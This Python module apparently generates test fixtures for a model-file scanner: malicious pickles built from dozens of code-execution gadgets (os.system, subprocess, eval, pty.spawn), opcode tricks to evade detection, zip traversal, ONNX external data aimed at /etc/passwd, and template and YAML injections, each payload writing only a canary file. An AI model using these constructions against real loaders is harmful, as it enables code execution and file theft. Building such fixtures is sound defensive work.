"""Files that were made to harm: every kind is one recipe, and each payload would leave a canary file.

`pickles(canary)`: what runs code when it is unpickled, or would, where its gadget is installed.
`files(canary)`: everything else, bytes by name. Nothing here unpickles or runs what it makes.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import pickletools
import struct
import tarfile
import zipfile
import zlib

import numpy as np
import onnx
from honest import (
    arrow_file,
    lightgbm_text,
    npy,
    npz,
    onnx_model,
    parquet_file,
    safetensors,
    skops_file,
    skops_schema,
    torch_file,
    ubj,
    zipped,
)
from onnx import TensorProto, helper

__all__ = ["benign", "files", "pickles"]


class Runs:
    """What a pickle calls when it is read."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


# --- pickles -------------------------------------------------------------------------------------


def text(words):
    raw = words.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(module, name, *args):
    """`module.name(*args)` in protocol 4, put together by hand: nothing has to be installed."""
    given = b"(" + b"".join(text(arg) for arg in args) + b"t"
    return b"\x80\x04" + text(module) + text(name) + b"\x93" + given + b"R."


GADGETS = {  # module, name -> arguments; {} is the shell command, [] the Python one
    "posix.system": ("posix", "system", "{}"),
    "nt.system": ("nt", "system", "{}"),
    "os.popen": ("os", "popen", "{}"),
    "os.execv": ("os", "execv", "/bin/sh"),
    "eval": ("builtins", "eval", "[]"),
    "exec": ("builtins", "exec", "[]"),
    "compile": ("builtins", "compile", "[]", "x", "exec"),
    "open": ("builtins", "open", "<canary>", "w"),
    "getattr": ("builtins", "getattr", "x", "y"),
    "__import__": ("builtins", "__import__", "os"),
    "breakpoint": ("builtins", "breakpoint"),
    "eval of Python 2": ("__builtin__", "eval", "[]"),
    "commands of Python 2": ("commands", "getoutput", "{}"),
    "subprocess.Popen": ("subprocess", "Popen", "{}"),
    "subprocess.getoutput": ("subprocess", "getoutput", "{}"),
    "pty.spawn": ("pty", "spawn", "/bin/sh"),
    "runpy.run_path": ("runpy", "run_path", "<canary>"),
    "runpy._run_code": ("runpy", "_run_code", "[]"),
    "timeit": ("timeit", "timeit", "[]"),
    "cProfile": ("cProfile", "run", "[]"),
    "pdb": ("pdb", "run", "[]"),
    "bdb": ("bdb", "Bdb"),
    "code": ("code", "interact"),
    "pydoc.pipepager": ("pydoc", "pipepager", "x", "{}"),
    "pydoc.locate": ("pydoc", "locate", "os.system"),
    "importlib": ("importlib", "import_module", "evil"),
    "functools.partial": ("functools", "partial", "x"),
    "operator.methodcaller": ("operator", "methodcaller", "system"),
    "operator.attrgetter": ("operator", "attrgetter", "system"),
    "types.CodeType": ("types", "CodeType", "x"),
    "types.FunctionType": ("types", "FunctionType", "x"),
    "ctypes.CDLL": ("ctypes", "CDLL", "evil.so"),
    "shutil.rmtree": ("shutil", "rmtree", "<canary>"),
    "socket": ("socket", "create_connection", "x"),
    "urllib": ("urllib.request", "urlopen", "http://192.0.2.1/"),
    "webbrowser": ("webbrowser", "open", "http://192.0.2.1/"),
    "multiprocessing": ("multiprocessing.util", "spawnv_passfds", "/bin/sh"),
    "pip": ("pip", "main", "install"),
    "ensurepip": ("ensurepip", "_run_pip", "install"),
    "venv": ("venv", "create", "<canary>"),
    "distutils writes": ("distutils.file_util", "write_file", "<canary>", "x"),
    "linecache reads": ("linecache", "getline", "/etc/passwd"),
    "pickle in pickle": ("pickle", "loads", "x"),
    "_pickle in pickle": ("_pickle", "loads", "x"),
    "joblib.load": ("joblib.numpy_pickle", "load", "<canary>"),
    "torch.load": ("torch.serialization", "load", "<canary>"),
    "torch.hub": ("torch.hub", "load", "x"),
    "pandas.read_pickle": ("pandas.io.pickle", "read_pickle", "<canary>"),
    "numpy.load": ("numpy", "load", "<canary>"),
    "numpy runs": ("numpy.testing._private.utils", "runstring", "[]"),
    "numpy f2py": ("numpy.f2py.crackfortran", "getlincoef", "[]"),
    "sklearn's test utility": ("sklearn.utils._testing", "assert_run_python_script", "[]"),
    "sklearn fetches": ("sklearn.datasets", "fetch_openml", "x"),
    "a look-alike of sklearn": ("sklearn.linear_model._logіstic", "LogisticRegression"),
    "cloudpickle": ("cloudpickle.cloudpickle", "_make_function", "x"),
    "dill": ("dill._dill", "_create_function", "x"),
    "keras lambda": ("keras.src.layers.core.lambda_layer", "Lambda", "x"),
    "logging": ("logging.config", "dictConfig", "x"),
    "a copy of nothing": ("copyreg", "add_extension", "os"),
    "a codec": ("_codecs", "decode", "x", "evil"),
    "an unusual codec": ("_codecs", "encode", "x", "rot13"),
}


def filled(arg, canary):
    shell, python = f"touch {canary}", f"open({str(canary)!r}, 'w')"
    return arg.replace("{}", shell).replace("[]", python).replace("<canary>", str(canary))


def nested(depth):
    """Tuples in tuples, each twice the one before: hashing it takes 2**depth steps."""
    made = b"\x80\x04}" + b")"
    for _ in range(depth):
        made += b"2\x86"
    return made + b"Ns."


def memo_trap():
    """MEMOIZE stores at the length of the memo: who counts MEMOIZEs reads sklearn, and loads os."""
    return (
        b"\x80\x04"
        + (text("x") + b"q\x05" + b"0")  # BINPUT 5: the memo holds one thing now
        + (text("posix") + b"\x94" + b"0")  # MEMOIZE: its place is 1, not 0
        + (text("getcwd") + b"\x94" + b"0")  # place 2, not 1
        + (text("sklearn.base") + b"q\x00" + b"0")  # what a counter of MEMOIZEs overwrites
        + (text("BaseEstimator") + b"q\x03" + b"0")
        + b"h\x01h\x02\x93)R."
    )


def pickles(canary):
    """name -> bytes; each is refused as a file, inside torch, and at the door of the sandbox."""
    import os

    runs = Runs(os.system, f"touch {canary}")
    found = {f"os.system, protocol {n}": pickle.dumps(runs, protocol=n) for n in range(6)}
    for name, (module, attribute, *args) in GADGETS.items():
        found[f"gadget: {name}"] = call(module, attribute, *(filled(arg, canary) for arg in args))
    evil = pickle.dumps(runs, protocol=4)
    shell = f"touch {canary}".encode()
    plain = pickle.dumps({"a": 1}, protocol=4)
    return found | {
        "optimised": pickletools.optimize(evil),
        "behind an honest one": plain + evil,
        "behind thousand honest ones": plain * 1000 + evil,
        "deep inside lists": pickle.dumps([[[[{"a": [runs]}]]]], protocol=2),
        "as the key of a table": pickle.dumps([(runs, 1)], protocol=4),
        "by the operation INST": b"(S'" + shell + b"'\niposix\nsystem\n.",
        "by the operation OBJ": b"(cposix\nsystem\nS'" + shell + b"'\no.",
        "by NEWOBJ": b"\x80\x02csubprocess\nPopen\n(X\x04\0\0\0truet\x81.",
        "by NEWOBJ_EX": b"\x80\x04" + text("subprocess") + text("Popen") + b"\x93)}\x92.",
        "by a stack name of the memo": b"\x80\x04"
        + (text("posix") + b"\x94" + text("system") + b"\x94" + b"00" + b"h\x00h\x01\x93")
        + (text(shell.decode()) + b"\x85R."),
        "the memo trap": memo_trap(),
        "a name made up on the way": b"\x80\x04" + text("numpy") + b"]0" + text("dtype") + b"\x93)R.",
        "a name of a duplicate": b"\x80\x04" + text("posix") + b"2\x93)R.",
        "a name of no text": b"\x80\x04" + b"K\x01K\x02\x93.",
        "a dotted name": b"\x80\x04" + text("collections") + text("OrderedDict.fromkeys") + b"\x93.",
        "a dotted name in a module of numpy": b"\x80\x04" + text("numpy") + text("dtype.__class__") + b"\x93.",
        "the extension registry, 1 byte": b"\x80\x02\x82\x01.",
        "the extension registry, 2 bytes": b"\x80\x02\x83\x01\x01.",
        "the extension registry, 4 bytes": b"\x80\x02\x84\x01\x01\x00\x00.",
        "a thing outside of it, by text": b"Pevil\n.",
        "a thing outside of it": b"\x80\x02" + b"X\x04\0\0\0evilQ.",
        "a buffer outside of it": b"\x80\x05\x97.",
        "BUILD on a table": b"\x80\x02}}b.",
        "REDUCE of a text": b"\x80\x02X\x01\0\0\0a)R.",
        "calls with no arguments' table": b"\x80\x04" + text("collections") + text("OrderedDict") + b"\x93]R.",
        "without an end": evil[:-1],
        "cut in the middle": evil[: len(evil) // 2],
        "with a frame too long": b"\x80\x04\x95\xff\0\0\0\0\0\0\0" + evil[11:],
        "with more inside its last frame": evil[:3] + struct.pack("<Q", len(evil) - 11 + 3) + evil[11:] + b"abc",
        "with garbage behind": plain + b"\xff\xff\xff\xff",
        "with an unknown operation": b"\x80\x04\xff.",
        "with things left on its stack": b"\x80\x02K\x01K\x02.",
        "a bomb of hashes": nested(200),
        "a bomb of sets": b"\x80\x04(" + b"(" * 60 + b"\x91" * 60 + b"\x91.",
        "a bytearray of eight exabytes": b"\x80\x05\x96" + b"\xff" * 7 + b"\x7f" + b".",
        "a text of four gigabytes": b"\x80\x02X\xff\xff\xff\xffabc.",
        "a mark without a thing": b"\x80\x02t.",
        "an empty stack": b"\x80\x02.",
        "a number of a million digits": b"L" + b"9" * 1_000_000 + b"L\n.",
        "lists in lists without end": b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".",
    }  # fmt: skip


def benign(canary):
    """Harmless but for the canary: proof that a real unpickler does run what is written here."""
    return (
        call("pathlib", "Path", str(canary))[:-1]
        + b"0"
        + call("builtins", "open", str(canary), "w")[2:]
    )


# --- archives ------------------------------------------------------------------------------------


def patched(data, sign, offset, value, *, last=True):
    """Bytes of the last (or first) header with `sign` changed."""
    at = data.rindex(sign) if last else data.index(sign)
    return data[: at + offset] + value + data[at + offset + len(value) :]


def two_names():
    """Directory: a.npy; header of the member: b.npy."""
    return patched(npz(a=np.arange(3)), b"PK\3\4", 30, b"b", last=False)


def doubled():
    good = npz(a=np.arange(3), b=np.arange(3))
    return good.replace(b"b.npy", b"a.npy")


def encrypted():
    data = patched(npz(a=np.arange(3)), b"PK\3\4", 6, b"\x01", last=False)
    return patched(data, b"PK\1\2", 8, b"\x01")


def linked():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        info = zipfile.ZipInfo("a.npy")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, npy(np.arange(3)))
    return file.getvalue()


def with_hidden_member():
    """A whole member between the last one and the directory that no directory names."""
    inner, outer = npz(evil=np.arange(3)), npz(a=np.arange(3))
    hidden = inner[: inner.index(b"PK\1\2")]
    at = outer.index(b"PK\1\2")
    made = outer[:at] + hidden + outer[at:]
    return patched(made, b"PK\5\6", 16, struct.pack("<I", at + len(hidden)))


def overlapping():
    """Two members of the directory that share one place."""
    data = npz(a=np.arange(3), b=np.arange(3))
    return patched(data, b"PK\1\2", 42, b"\0\0\0\0")


def commented():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a.npy", npy(np.arange(3)))
        archive.comment = b"#!/bin/sh"
    return file.getvalue()


def with_extra(kind):
    """A member with an extra field, such as a second name in Unicode."""
    info = zipfile.ZipInfo("a.npy")
    info.extra = struct.pack("<2H", kind, 10) + b"\x01\0\0\0\0evil!"
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(info, npy(np.arange(3)))
    return file.getvalue()


def archives(evil):
    good = npz(a=np.arange(3))
    one = [("a.npy", npy(np.arange(3)))]
    return {
        "zip: two names of one member": two_names(),
        "zip: doubled member": doubled(),
        "zip: names that differ in case": zipped([*one, ("A.npy", npy(np.arange(3)))]),
        "zip: encrypted": encrypted(),
        "zip: encrypted in one header": patched(good, b"PK\1\2", 8, b"\x01"),
        "zip: a link": linked(),
        "zip: a hidden member": with_hidden_member(),
        "zip: overlapping members": overlapping(),
        "zip: a comment": commented(),
        "zip: a second name in Unicode": with_extra(0x7075),
        "zip: an unknown extra field": with_extra(0x9999),
        "zip: a pickle behind": good + evil,
        "zip: a zip behind": good + zipped([("data.pkl", evil)]),
        "zip: a pickle before": evil + good,
        "zip: cut off": good[:-5],
        "zip: no directory": good[: good.index(b"PK\1\2")],
        "zip: checksum of the directory": patched(good, b"PK\1\2", 16, b"\0\0\0\0"),
        "zip: checksum of both": patched(
            patched(good, b"PK\1\2", 16, b"\1\2\3\4"), b"PK\3\4", 14, b"\1\2\3\4", last=False
        ),
        "zip: sizes differ": patched(good, b"PK\1\2", 24, b"\xff\0\0\0"),
        "zip: methods differ": patched(good, b"PK\1\2", 10, b"\x08"),
        "zip: flags differ": patched(good, b"PK\1\2", 8, b"\x00\x08"),
        "zip: another number of members": patched(good, b"PK\5\6", 8, b"\x02\0\x02\0"),
        "zip: in parts": patched(good, b"PK\5\6", 4, b"\x01\0"),
        "zip: leads out": zipped([("../a.npy", npy(np.arange(3)))]),
        "zip: an absolute place": zipped([("/tmp/a.npy", npy(np.arange(3)))]),
        "zip: a backslash": zipped([("..\\a.npy", npy(np.arange(3)))]),
        "zip: a bomb": zipped([("a.npy", npy(np.zeros(8 << 20)))], zipfile.ZIP_DEFLATED),
        "zip: LZMA": zipped(one, zipfile.ZIP_LZMA),
        "zip: BZIP2": zipped(one, zipfile.ZIP_BZIP2),
        "zip: in a zip": zipped([("a.npy", good)]),
        "zip: gzip in a zip": zipped([("a.npy", gzip.compress(npy(np.arange(3))))]),
        "zip: empty": zipped([]),
        "zip: a pickle in it": zipped([*one, ("b.pkl", evil)]),
        "zip: a pickle under another name": zipped([("a.npy", evil)]),
        "zip: a program in it": zipped([*one, ("__init__.py", b"import os")]),
    }


def compressed(evil):
    raw = struct.pack("<I", 0x184D2204) + b"\x60\x40\x82"  # lz4: version, sizes, checksum of both
    lz4 = raw + struct.pack("<I", 0x80000000 | len(evil)) + evil + b"\0\0\0\0"
    head = (len(evil) << 3) | 1  # zstandard: one raw block, the last one
    zstd = b"\x28\xb5\x2f\xfd\x60" + struct.pack("<H", max(len(evil) - 256, 0))
    zstd += head.to_bytes(3, "little") + evil
    tar, tgz = io.BytesIO(), io.BytesIO()
    for file, mode in ((tar, "w"), (tgz, "w:gz")):
        with tarfile.open(fileobj=file, mode=mode) as archive:
            for name in ("sys_info", "pickle", "tensors", "storages"):
                info = tarfile.TarInfo(name)
                info.size = len(evil)
                archive.addfile(info, io.BytesIO(evil))
    return {
        "gzip": gzip.compress(evil),
        "bzip2": bz2.compress(evil),
        "xz": lzma.compress(evil),
        "lzma": lzma.compress(evil, format=lzma.FORMAT_ALONE),
        "joblib's zlib": zlib.compress(evil),
        "joblib's zlib, strongest": zlib.compress(evil, 9),
        "joblib of long ago": b"ZF" + b"0x10".ljust(19) + zlib.compress(evil),
        "zstandard": zstd,
        "lz4": lz4,
        "gzip in gzip": gzip.compress(gzip.compress(evil)),
        "torch of long ago (tar)": tar.getvalue(),
        "tar in gzip": tgz.getvalue(),
        "7z": b"7z\xbc\xaf\x27\x1c" + evil,
        "rar": b"Rar!\x1a\x07" + evil,
    }


# --- models --------------------------------------------------------------------------------------


def external(tensor, location):
    tensor.data_location = TensorProto.EXTERNAL
    tensor.ClearField("float_data")
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", location
    return tensor


def weights(name="w"):
    return helper.make_tensor(name, TensorProto.FLOAT, [2, 2], [1.0, 2.0, 3.0, 4.0])


def in_attribute(place):
    return onnx_model(
        nodes=[helper.make_node("Constant", [], ["y"], value=external(weights(), place))]
    )


def in_subgraph(place):
    out = helper.make_tensor_value_info("z", TensorProto.FLOAT, [2, 2])
    inner = helper.make_graph(
        [helper.make_node("Identity", ["w"], ["z"])], "b", [], [out], [external(weights(), place)]
    )
    node = helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)
    return onnx_model(
        nodes=[node], initializers=[helper.make_tensor("c", TensorProto.BOOL, [], [1])]
    )


def in_function(place="", domain="ai.onnx"):
    made = onnx.ModelProto.FromString(onnx_model())
    node = (
        helper.make_node("Constant", [], ["b"], value=external(weights(), place))
        if place
        else helper.make_node("Identity", ["a"], ["b"])
    )
    made.functions.append(
        helper.make_function(domain, "F", ["a"], ["b"], [node], [helper.make_opsetid("", 21)])
    )
    return made.SerializeToString()


def in_sparse(place):
    made = onnx.ModelProto.FromString(onnx_model())
    sparse = made.graph.sparse_initializer.add()
    sparse.values.CopyFrom(external(helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0]), place))
    sparse.indices.CopyFrom(helper.make_tensor("i", TensorProto.INT64, [1], [0]))
    sparse.dims.append(4)
    return made.SerializeToString()


def in_training(place):
    made = onnx.ModelProto.FromString(onnx_model())
    made.training_info.add().initialization.initializer.append(external(weights(), place))
    return made.SerializeToString()


def onnx_files(evil):
    good = onnx_model()
    places = {
        "absolute": "/etc/passwd",
        "that leads out": "../../etc/passwd",
        "that leads out late": "a/../../b",
        "in the folder": "weights.bin",
        "under a link's name": "link/weights.bin",
        "of a device": "/dev/zero",
        "with a NUL": "w\0.bin",
    }
    found = {
        f"onnx: external data {name}": onnx_model(initializers=[external(weights(), place)])
        for name, place in places.items()
    }
    for place in ("/etc/passwd", "../x"):
        found |= {
            f"onnx: external data in an attribute, {place}": in_attribute(place),
            f"onnx: external data in a subgraph, {place}": in_subgraph(place),
            f"onnx: external data in a function, {place}": in_function(place),
            f"onnx: external data in a sparse tensor, {place}": in_sparse(place),
            f"onnx: external data in training, {place}": in_training(place),
        }
    foreign = helper.make_opsetid("com.evil", 1)
    return found | {
        "onnx: operators of a foreign domain": onnx_model(domain="com.evil"),
        "onnx: imports a foreign domain": onnx_model(
            imports=[helper.make_opsetid("", 21), foreign]
        ),
        "onnx: a function of a foreign domain": in_function(domain="com.evil"),
        "onnx: Microsoft's operators": onnx_model(domain="com.microsoft"),
        "onnx: a Python operator": onnx_model(domain="ai.onnx.contrib"),
        "onnx: a pickle behind": good + evil,
        "onnx: a zip behind": good + zipped([("data.pkl", evil)]),
        "onnx: cut off": good[:-3],
        "onnx: an unknown field": good + b"\xfa\x07\x02hi",
        "onnx: of a later version": onnx_model(ir_version=99),
        "onnx: no graph": onnx.ModelProto(ir_version=9).SerializeToString(),
    }


def tensors(evil):
    one = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    w = b"\0" * 8

    def with_entry(**entry):
        return safetensors({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]} | entry}, w)

    return {
        "safetensors: a hole": safetensors(
            one | {"v": {"dtype": "F32", "shape": [1], "data_offsets": [12, 16]}}, w * 2
        ),
        "safetensors: a hole at the beginning": with_entry(data_offsets=[4, 12]),
        "safetensors: an overlap": safetensors(
            one | {"v": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, w + w[:4]
        ),
        "safetensors: a pickle behind": safetensors(one, w + evil),
        "safetensors: cut off": safetensors(one, w[:-1]),
        "safetensors: a header of 10 GB": safetensors(one, w, length=10 << 30),
        "safetensors: a header of 200 MB": safetensors(one, w, length=200 << 20),
        "safetensors: a header beyond the file": safetensors(one, w, length=1000),
        "safetensors: doubled name": safetensors(
            b'{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},'
            b'"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',
            b"\0",
        ),
        "safetensors: a negative shape": with_entry(shape=[-1, -2]),
        "safetensors: a shape that does not fit": with_entry(shape=[3]),
        "safetensors: an unknown type": with_entry(dtype="OBJ"),
        "safetensors: offsets the wrong way": with_entry(data_offsets=[8, 0]),
        "safetensors: more in an entry": with_entry(code="x"),
        "safetensors: metadata that brings code": safetensors(
            one | {"__metadata__": {"auto_map": "evil.Model"}}, w
        ),
        "safetensors: metadata that is no text": safetensors(one | {"__metadata__": {"a": 1}}, w),
    }


def configurations(evil):
    lambda_layer = {"class_name": "Lambda", "config": {"function": ["4wEAAA==", None, None]}}
    return {
        "json: auto_map": b'{"auto_map": {"AutoModel": "evil.Model"}}',
        "json: auto_map, deep": b'{"a": [{"b": {"auto_map": {}}}]}',
        "json: auto_map, escaped": b'{"\\u0061uto_map": {"AutoModel": "evil.Model"}}',
        "json: auto_map behind a doubled key": b'{"a": {"auto_map": {}}, "a": 1}',
        "json: chat_template": b'{"chat_template": "{{ cycler.__init__.__globals__.os }}"}',
        "json: custom_pipelines": b'{"custom_pipelines": {"x": {"impl": "evil.P"}}}',
        "json: trust_remote_code": b'{"trust_remote_code": true}',
        "json: jsonpickle": b'{"py/object": "os.system"}',
        "json: jsonpickle's reduce": b'{"py/reduce": [{"py/function": "os.system"}]}',
        "json: hydra": b'{"_target_": "os.system", "_args_": ["true"]}',
        "json: Keras": json.dumps({"class_name": "Sequential"}).encode(),
        "json: a lambda of Keras": json.dumps({"config": {"layers": [lambda_layer]}}).encode(),
        "json: MLflow's loader": b'{"loader_module": "evil"}',
        "json: NaN": b'{"a": NaN}',
        "json: cut off": b'{"a": [1, 2',
        "json: a pickle behind": b'{"a": 1}' + evil,
        "json: too deep": b"[" * 200_000 + b"]" * 200_000,
        "yaml with Python in it": b"!!python/object/apply:os.system ['true']\n",
    }


def of_other_tools(evil):
    code = marshal.dumps(compile("open('x', 'w')", "x", "exec"))
    config = json.dumps({"class_name": "Lambda", "config": {"function": "x"}}).encode()
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    return {
        "Keras: a lambda in HDF5": b"\x89HDF\r\n\x1a\n" + b"\0" * 64 + config + code,
        "Keras: a lambda in .keras": zipped(
            [("metadata.json", b"{}"), ("config.json", config), ("model.weights.h5", b"\x89HDF")]
        ),
        "TensorFlow's saved model": b"\x08\x01\x12\x08\n\x06\x0a\x04serv",
        "TensorFlow Lite": b"\x1c\0\0\0TFL3" + b"\0" * 100,
        "ONNX Runtime's own form": b"\x18\0\0\0ORTM" + b"\0" * 100,
        "GGUF with a template": b"GGUF\x03\0\0\0" + b"tokenizer.chat_template{{ x }}",
        "PMML": b"<?xml version='1.0'?><PMML><script/></PMML>",
        "a program": b"\x7fELF" + b"\0" * 100,
        "a script": b"#!/bin/sh\ntrue\n",
        "Python": b"import os\nos.system('true')\n",
        "bytecode": b"\xa7\x0d\x0d\x0a" + b"\0" * 12 + code,
        "torch: TorchScript": torch_file(more={"code/__torch__.py": b"def f(): pass"}),
        "torch: constants of TorchScript": torch_file(more={"constants.pkl": b"\x80\x02)."}),
        "torch: a pickle beside": torch_file(more={"evil.pkl": evil}),
        "torch: members outside its folder": torch_file(outside={"x": b"y"}),
        "torch: the legacy form": magic + pickle.dumps(1001, protocol=2) + evil,
        "torch: a tensor of another size": torch_file(elements=9),
        "torch: a tensor without bytes": torch_file(key="7"),
        "torch: bytes without a tensor": torch_file(more={"data/9": evil}),
        "torch: an archive among the tensors": torch_file(
            more={"data/0": zipped([("data.pkl", evil)])}
        ),
        "torch: a place of its own": torch_file(place="evil://x"),
        "torch: a whole module": torch_file(root=b"\x80\x02ctorch.nn.modules.linear\nLinear\n)\x81."),
        "torch: no table": torch_file(root=b"\x80\x02]."),
        "torch: two pickles": torch_file(root=b"\x80\x02}." * 2),
        "skops: a type that nobody trusts": skops_file(skops_schema("os", "system")),
        "skops: a type of a wrapper": skops_file(skops_schema("builtins", "eval", "TypeNode")),
        "skops: a function": skops_file(skops_schema("numpy", "ndarray", "FunctionNode")),
        "skops: a method": skops_file(skops_schema("numpy", "ndarray", "MethodNode")),
        "skops: a partial": skops_file(skops_schema("functools", "partial", "PartialNode")),
        "skops: an operator": skops_file(
            skops_schema("operator", "methodcaller", "OperatorFuncNode")
        ),
        "skops: a type without a loader": skops_file(
            {"__class__": "system", "__module__": "os"} | {"__loader__": None}
        ),
        "skops: bytes": skops_file(skops_schema("builtins", "bytes", "BytesNode")),
        "skops: a pickle beside": skops_file(more={"x.pkl": evil}),
        "skops: a file that is not there": skops_file(
            skops_schema("numpy", "ndarray", "NdArrayNode") | {"type": "numpy", "file": "7.npy"}
        ),
        "skops: an array of objects": skops_file(
            skops_schema("numpy", "ndarray", "NdArrayNode") | {"type": "numpy", "file": "7.npy"},
            more={"7.npy": npy(np.array([{}], object), allow_pickle=True)},
        ),
        "xgboost: a pickle behind": ubj() + evil,
        "xgboost: cut off": ubj()[:-1],
        "xgboost: doubled key": ubj(more=b"L" + struct.pack(">q", 7) + b"learner{}"),
        "xgboost: an unknown part": ubj(part=b"evil"),
        "xgboost: a later tree of another length": ubj(count=4),
        "xgboost: a later tree beyond the file": ubj(count=1 << 60),
        "xgboost: a later tree of a negative length": ubj(count=-1),
        "xgboost: a later tree with a doubled key": ubj(key=b"base_weights"),
        "xgboost: something else": b"{" + b"i\x01ai\x01}",
        "xgboost: a length beyond the file": b"{L" + struct.pack(">q", 1 << 60) + b"learner",
        "xgboost: a negative length": b"{L" + struct.pack(">q", -1) + b"learner",
        "xgboost: nested too deep": b"{i\x01a" + b"[" * 100_000,
        "lightgbm: a pickle behind": lightgbm_text() + evil,
        "lightgbm: an unknown line": lightgbm_text(line="machines=evil:12400"),
        "lightgbm: no numbers": lightgbm_text(leaf="__import__('os')"),
        "lightgbm: sizes that lie": lightgbm_text(grow=7),
        "lightgbm: cut off": lightgbm_text()[:-200],
        "parquet: a column in another file": parquet_file(other="/etc/passwd"),
        "parquet: encrypted": b"PARE" + parquet_file()[4:],
        "parquet: a pickle as extension type": parquet_file(note=b"arrow.py_extension_type"),
        "parquet: a column outside of it": parquet_file(offset=1 << 40),
        "parquet: rows that lie": parquet_file(rows=99),
        "parquet: a pickle behind": parquet_file() + evil,
        "parquet: cut off": parquet_file()[:-9] + b"PAR1",
        "arrow: a pickle as extension type": arrow_file(column="arrow.py_extension_type"),
        "arrow: a pickle behind": arrow_file() + evil,
        "arrow: cut off": arrow_file()[:-20] + b"ARROW1",
        "arrow: a stream": b"\xff\xff\xff\xff" + arrow_file()[8:],
    }  # fmt: skip


def arrays(canary):
    objects = np.array([Runs(open, str(canary), "w")], dtype=object)
    records = np.zeros(1, dtype=[("a", "O"), ("b", "i4")])
    header = b"{'descr': __import__('os').system('true'), 'fortran_order': False, 'shape': ()}"
    shape = b"{'descr': '<f8', 'fortran_order': False, 'shape': (-1, -3), }".ljust(117) + b"\n"
    return {
        "npy: objects": npy(objects, allow_pickle=True),
        "npy: records with objects": npy(records, allow_pickle=True),
        "npy: a pickle behind": npy(np.arange(3)) + pickle.dumps(1),
        "npy: cut off": npy(np.arange(3))[:-1],
        "npy: a header that is code": b"\x93NUMPY\x01\0" + struct.pack("<H", len(header)) + header,
        "npy: a negative shape": b"\x93NUMPY\x01\0" + struct.pack("<H", 118) + shape + b"\0" * 24,
        "npy: of another version": b"\x93NUMPY\x09\0" + npy(np.arange(3))[8:],
        "npz: objects": npz(a=objects),
        "npz: objects among numbers": npz(a=np.arange(3), b=objects),
    }


def files(canary):
    """name -> bytes of everything that is no bare pickle. The first pickle hides in many of them."""
    import os

    evil = pickle.dumps(Runs(os.system, f"touch {canary}"), protocol=4)
    return {
        **archives(evil),
        **compressed(evil),
        **onnx_files(evil),
        **tensors(evil),
        **configurations(evil),
        **of_other_tools(evil),
        **arrays(canary),
        "nothing": b"",
        "one byte": b"\x08",
        "zeros": b"\0" * 200,
        "noise": bytes(range(256)) * 4,
        "text": b"hello\n" * 20,
    }
